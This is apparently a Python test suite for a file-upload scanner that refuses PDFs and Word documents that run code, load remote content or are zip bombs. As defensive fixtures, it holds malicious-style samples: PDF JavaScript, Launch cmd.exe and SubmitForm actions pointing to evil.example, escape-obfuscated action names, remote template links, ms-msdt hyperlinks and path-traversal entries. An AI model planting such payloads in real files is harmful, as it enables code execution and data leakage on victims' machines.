"""What is looked for in an uploaded file: that it is what it says, and holds nothing that runs or loads."""

import hashlib
import io
import random
import zipfile
import zlib

import pytest

from shared.domain.document_content import (
    LOADS_FROM_ELSEWHERE,
    MOST_OBJECTS,
    NO_WORD_FILE,
    NOT_WHAT_IT_SAYS,
    PASSWORD,
    PDF_CLOSED,
    PDF_WITH_FILES,
    PDF_WITH_PROGRAM,
    PDF_WITH_XFA,
    TOO_LARGE,
    UNPACKS_TOO_LARGE,
    WITH_MACROS,
    inspect,
)
from shared.domain.documents import DOCX
from tests import files

MOST = 10 * 1024**2
LINK = "word/_rels/document.xml.rels"

GOOD = [
    ("application/pdf", files.PDF),
    ("application/pdf", b"%PDF-2.0 and so on"),
    ("image/png", files.PNG),
    ("image/jpeg", files.JPEG),
    (DOCX, files.docx()),
    (DOCX, files.docx({LINK: files.relationship("hyperlink", "https://www.example.org/")})),
    (DOCX, files.docx({LINK: files.relationship("hyperlink", "mailto:someone@example.org")})),
    (DOCX, files.docx({"word/embeddings/chart.xlsx": files.zipped({"xl/workbook.xml": "<x/>"})})),
]


@pytest.mark.parametrize(("content_type", "content"), GOOD)
def test_a_good_file_is_found_clean_and_its_checksum_is_taken(content_type: str, content: bytes) -> None:
    found = inspect(content_type, content, MOST)
    assert found.reason == ""
    assert found.sha256 == hashlib.sha256(content).hexdigest()


@pytest.mark.parametrize("content_type", ["application/pdf", "image/png", "image/jpeg", DOCX])
@pytest.mark.parametrize(
    "content", [b"", b"%", files.HTML, files.SVG, files.SCRIPT, b"GIF89a", b"\x00" * 100]
)
def test_what_is_something_else_is_refused_whatever_it_is_called(content_type: str, content: bytes) -> None:
    assert inspect(content_type, content, MOST).reason == NOT_WHAT_IT_SAYS


def test_a_file_of_another_allowed_type_is_refused() -> None:
    contents = dict(GOOD)
    for declared in contents:
        for real, content in contents.items():
            assert (inspect(declared, content, MOST).reason == "") == (declared == real)


def test_a_header_that_does_not_stand_at_the_beginning_is_none() -> None:
    assert inspect("application/pdf", files.HTML + files.PDF, MOST).reason == NOT_WHAT_IT_SAYS
    assert inspect(DOCX, files.HTML + files.docx(), MOST).reason == NOT_WHAT_IT_SAYS


@pytest.mark.parametrize(
    ("mark", "reason"),
    [
        (b"/S /JavaScript /JS (app.alert(1))", PDF_WITH_PROGRAM),
        (b"/S /Launch /F (cmd.exe)", PDF_WITH_PROGRAM),
        (b"/OpenAction << /S /SubmitForm /F (https://evil.example/) >>", PDF_WITH_PROGRAM),
        (b"/OpenAction << /S /Submit#46orm /F (https://evil.example/) >>", PDF_WITH_PROGRAM),
        (b"/S /ImportData /F (a.fdf)", PDF_WITH_PROGRAM),
        (b"/Subtype /RichMedia /RichMediaContent 5 0 R", PDF_WITH_PROGRAM),
        (b"/S /Rendition /JS (app.alert(1))", PDF_WITH_PROGRAM),
        (b"/AcroForm << /XFA 5 0 R /Fields [] >>", PDF_WITH_XFA),
        (b"/AcroForm << /XFA[(template) 5 0 R] /Fields [] >>", PDF_WITH_XFA),
        (b"/AcroForm << /#58FA%\n5 0 R /Fields [] >>", PDF_WITH_XFA),
        (b"/Names << /EmbeddedFiles << /Names [(run.exe) 6 0 R] >> >>", PDF_WITH_FILES),
        (b"/Type /Annot /Subtype /FileAttachment /FS 6 0 R", PDF_WITH_FILES),
        (b"/OpenAction << /S /GoToE /T << /R /C /N (run.exe) >> >>", PDF_WITH_FILES),
    ],
)
def test_a_pdf_that_runs_sends_or_holds_something_is_refused(mark: bytes, reason: str) -> None:
    assert inspect("application/pdf", files.PDF + mark, MOST).reason == reason
    packed = with_objects(*PAGES, b"<< " + mark + b" >>")
    assert inspect("application/pdf", packed, MOST).reason == reason


@pytest.mark.parametrize(
    "mark",
    [
        b"/AcroForm << /Fields [7 0 R] /DA (/Helv 0 Tf 0 g) /NeedAppearances true /SigFlags 3 >>",
        b"/Type /Annot /Subtype /Widget /FT /Tx /T (Name) /V (Mona) /AP << /N 8 0 R >>",
        b"/FT /Btn /T (clear) /A << /S /ResetForm >>",
        b"/FT /Sig /V << /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached >>",
        b"/Subtype /Link /A << /S /URI /URI (https://www.example.org/) >>",
        b"/OpenAction [3 0 R /XYZ null null 0] /Names << /Dests 5 0 R >> /AF [6 0 R]",
        b"/BaseFont /XFAXYZ+Calibri",
        b"\x00/XFA\x9c\x81/XFA/XFA",
    ],
)
def test_a_pdf_as_people_have_it_is_clean_forms_filled_in_and_signed_too(mark: bytes) -> None:
    """Fields, signatures, links, a page to begin at, a font's name, and what a picture's bytes may spell."""
    assert inspect("application/pdf", files.PDF + mark, MOST).reason == ""
    assert inspect("application/pdf", with_objects(*PAGES, b"<< " + mark + b" >>"), MOST).reason == ""


RUNS = b"<< /S /JavaScript /JS (app.alert(1)) >>"


def with_objects(
    *objects: bytes, says: bytes = b"/Type /ObjStm /Filter /FlateDecode", packed: bytes = b""
) -> bytes:
    """A PDF whose objects lie packed in a stream, as Word, Acrobat and macOS write them."""
    places, at = [], 0
    for number, each in enumerate(objects, 1):
        places.append(b"%d %d" % (number, at))
        at += len(each) + 1
    head = b" ".join(places) + b" "
    content = packed or zlib.compress(head + b"\n".join(objects))
    told = says + b" /N %d /First %d /Length %d" % (len(objects), len(head), len(content))
    outline = b"4 0 obj\n<< /Type /Outlines /First 3 0 R /Count 1 >>\nendobj\n"
    picture = b"7 0 obj\n<< /Filter /DCTDecode /Length 3 >>\nstream\n\xff\xd8\xff\nendstream\nendobj\n"
    stream = b"5 0 obj\n<< " + told + b" >>\nstream\r\n" + content + b"\nendstream\nendobj\n"
    return b"%PDF-1.5\n" + outline + picture + stream + outline + picture + b"%%EOF\n"


PAGES = (b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")


@pytest.mark.parametrize(
    "says",
    [
        b"/Type /ObjStm /Filter /FlateDecode",
        b"/Type/ObjStm/Filter/FlateDecode",
        b"/Type /ObjStm /Filter [ /FlateDecode ]",
        b"/Type /Obj#53tm /Filter /Flate#44ecode",
        b"/Filter /FlateDecode",
        b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 1 >>",
    ],
)
def test_packed_objects_are_looked_into(says: bytes) -> None:
    assert inspect("application/pdf", with_objects(*PAGES, says=says), MOST).reason == ""
    for bad in (RUNS, RUNS.replace(b"Java", b"J#61va"), b"<< /S /Launch /F (cmd.exe) >>"):
        found = inspect("application/pdf", with_objects(*PAGES, bad, says=says), MOST)
        assert found.reason == PDF_WITH_PROGRAM


@pytest.mark.parametrize(
    "says",
    [
        b"/Type /ObjStm /Filter /LZWDecode",
        b"/Type /ObjStm /Filter [/ASCIIHexDecode /FlateDecode]",
        b"/Type /ObjStm /Filter 9 0 R",
        b"/Type /ObjStm /Filter /FlateDecode /DecodeParms << /Predictor 12 >>",
        b"/Type /ObjStm /Filter /FlateDecode /X (obj) /Y (stream\n) ",
        b"/Type /ObjStm /X (obj) /Filter /FlateDecode",
        b"/Filter /FlateDecode /X (obj) /Type /ObjStm",
    ],
)
def test_packed_objects_that_cannot_be_looked_into_are_refused(says: bytes) -> None:
    assert inspect("application/pdf", with_objects(*PAGES, says=says), MOST).reason == PDF_CLOSED


def test_damaged_or_endless_objects_are_refused() -> None:
    whole = zlib.compress(b" ".join(PAGES) * 50)
    for packed in (b"no such thing", whole[:-8]):
        assert inspect("application/pdf", with_objects(*PAGES, packed=packed), MOST).reason == PDF_CLOSED
    unpacked = b"1 0 " + PAGES[0]
    assert (
        inspect(
            "application/pdf", with_objects(PAGES[0], says=b"/Type /ObjStm", packed=unpacked), MOST
        ).reason
        == ""
    )
    endless = zlib.compress(bytes(MOST_OBJECTS + 1))
    assert inspect("application/pdf", with_objects(*PAGES, packed=endless), MOST).reason == UNPACKS_TOO_LARGE


@pytest.mark.timeout(60)
@pytest.mark.parametrize(
    "hostile",
    [
        b"/First" * 1_600_000 + b"stream\n",
        b"1 0 obj<</Type/ObjStm/Filter/FlateDecode>>stream\n" + zlib.compress(b"") + b"endstream",
        b"1 0 obj<</Type/ObjStm>>stream\n" + zlib.compress(b"") + b"endstream",
    ],
    ids=["a dictionary without end", "packed streams without number", "plain streams without number"],
)
def test_a_hostile_pdf_is_looked_into_in_the_time_that_its_length_takes(hostile: bytes) -> None:
    content = b"%PDF-1.7\n" + hostile * (9_000_000 // len(hostile) or 1)
    assert inspect("application/pdf", content, MOST).reason in ("", PDF_CLOSED)


def test_a_file_over_the_limit_is_refused_unread() -> None:
    assert inspect("application/pdf", files.PDF + bytes(MOST), MOST).reason == TOO_LARGE


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
VBA = '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'

BAD_WORD = [
    (files.docx({"word/vbaProject.bin": b"x"}), WITH_MACROS),
    (files.docx({"word/activeX/activeX1.xml": "<x/>"}), WITH_MACROS),
    (files.docx({"word/embeddings/oleObject1.bin": b"x"}), WITH_MACROS),
    (files.docx({"word/media/run.JS": b"x"}), WITH_MACROS),
    (files.docx(types=files.content_types(MACRO_TYPE)), WITH_MACROS),
    (files.docx(types=files.content_types(more=VBA)), WITH_MACROS),
    (files.docx({LINK: files.relationship("oleObject", "embeddings/a.xml", "Internal")}), WITH_MACROS),
    (
        files.docx({LINK: files.relationship("attachedTemplate", "https://evil.example/t.dotm")}),
        LOADS_FROM_ELSEWHERE,
    ),
    (files.docx({LINK: files.relationship("image", "https://evil.example/pixel.png")}), LOADS_FROM_ELSEWHERE),
    (files.docx({LINK: files.relationship("frame", "file://evil.example/a.htm")}), LOADS_FROM_ELSEWHERE),
    (files.docx({LINK: files.relationship("hyperlink", "javascript:alert(1)")}), LOADS_FROM_ELSEWHERE),
    (files.docx({LINK: files.relationship("hyperlink", "ms-msdt:/id")}), LOADS_FROM_ELSEWHERE),
    (files.docx({LINK: DTD}), NO_WORD_FILE),
    (files.docx({LINK: b"<not xml"}), NO_WORD_FILE),
    (files.docx({"../../evil.xml": "<x/>"}), NO_WORD_FILE),
    (files.docx({"/etc/evil.xml": "<x/>"}), NO_WORD_FILE),
    (files.zipped({"word/document.xml": "<x/>"}), NO_WORD_FILE),
    (files.zipped({"[Content_Types].xml": files.content_types()}), NO_WORD_FILE),
    (files.docx(types=files.content_types("application/vnd.ms-excel.main+xml")), NO_WORD_FILE),
    (files.docx()[:-30], NO_WORD_FILE),
    (files.docx({f"part{number}.xml": "" for number in range(2001)}), UNPACKS_TOO_LARGE),
    (files.docx({LINK: bytes(2 * 1024**2)}), UNPACKS_TOO_LARGE),
]


@pytest.mark.parametrize(("content", "reason"), BAD_WORD)
def test_a_word_file_that_runs_loads_or_is_none_is_refused(content: bytes, reason: str) -> None:
    assert inspect(DOCX, content, MOST).reason == reason


SAYS_UTF_8 = 'encoding="UTF-8"'
ENCODINGS = [
    "foo",
    "",
    "rot13",
    "hex",
    "base64",
    "zlib",
    "bz2",
    "undefined",
    "idna",
    "punycode",
    "mbcs",
    "oem",
]
ENCODINGS += [
    "utf-7",
    "utf-16",
    "utf-32",
    "ucs-4",
    "unicode_escape",
    "cp037",
    "euc_jp",
    "big5",
    "\u00e9",
    "a" * 70,
]


@pytest.mark.filterwarnings("ignore:invalid escape sequence:DeprecationWarning")
@pytest.mark.parametrize("encoding", ENCODINGS)
def test_a_word_file_in_an_encoding_that_is_none_is_refused(encoding: str) -> None:
    """Whatever Python knows under that name: a way to pack, an encoding of several bytes, nothing at all."""
    says = f'encoding="{encoding}"'
    types = files.content_types().replace(SAYS_UTF_8, says)
    link = files.relationship("hyperlink", "https://www.example.org/").replace(SAYS_UTF_8, says)
    for content in (files.docx(types=types), files.docx({LINK: link})):
        assert inspect(DOCX, content, MOST).reason in ("", NO_WORD_FILE)


SEED = 20270215


def test_a_word_file_whose_lists_are_spoiled_is_clean_or_refused() -> None:
    """Bytes are changed where the parser reads: in the declaration, in what is declared, in the relationships."""
    chance = random.Random(SEED)
    parts = [files.content_types(), files.relationship("hyperlink", "https://www.example.org/")]
    reasons = set()
    for _ in range(1000):
        spoiled = [bytearray(part.encode()) for part in parts]
        for part in spoiled:
            for _ in range(chance.randint(0, 3)):
                part[chance.randrange(chance.choice([56, len(part)]))] = chance.randrange(256)
        content = files.docx({"[Content_Types].xml": bytes(spoiled[0]), LINK: bytes(spoiled[1])})
        reasons.add(inspect(DOCX, content, MOST).reason)
    assert {"", NO_WORD_FILE, LOADS_FROM_ELSEWHERE} <= reasons


def test_a_zip_bomb_is_refused_without_being_unpacked() -> None:
    bomb = files.zip_bomb()
    assert len(bomb) < 1024**2
    assert inspect(DOCX, bomb, MOST).reason == UNPACKS_TOO_LARGE


def test_a_zip_bomb_that_lies_about_its_size_is_refused() -> None:
    assert inspect(DOCX, files.lying_zip_bomb(), MOST).reason in (UNPACKS_TOO_LARGE, NO_WORD_FILE)


def test_a_word_file_with_a_password_is_refused() -> None:
    locked = bytearray(files.docx())
    place = locked.index(b"PK\x01\x02")
    while place != -1:
        locked[place + 8] |= 1  # the flag in the directory
        place = locked.find(b"PK\x01\x02", place + 1)
    assert inspect(DOCX, bytes(locked), MOST).reason == PASSWORD


@pytest.mark.parametrize("packed", [zipfile.ZIP_LZMA, zipfile.ZIP_BZIP2])
def test_a_word_file_that_is_packed_as_none_is_refused_damaged_or_not(packed: int) -> None:
    content = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(files.docx())) as whole, zipfile.ZipFile(content, "w", packed) as other:
        for name in whole.namelist():
            other.writestr(name, whole.read(name))
    sound = content.getvalue()
    first = len("PK") + 28 + len("[Content_Types].xml")
    damaged = sound[: first + 9] + b"\xff" * 30 + sound[first + 39 :]
    for each in (sound, damaged):
        assert inspect(DOCX, each, MOST).reason == NO_WORD_FILE


@pytest.mark.parametrize("name", [b"/Java#53cript", b"/#4caunch", b"/#4Caunch"])
def test_a_pdf_that_hides_what_it_runs_behind_escapes_is_refused(name: bytes) -> None:
    assert inspect("application/pdf", b"%PDF-1.7 << /S " + name + b" >>", MOST).reason == PDF_WITH_PROGRAM
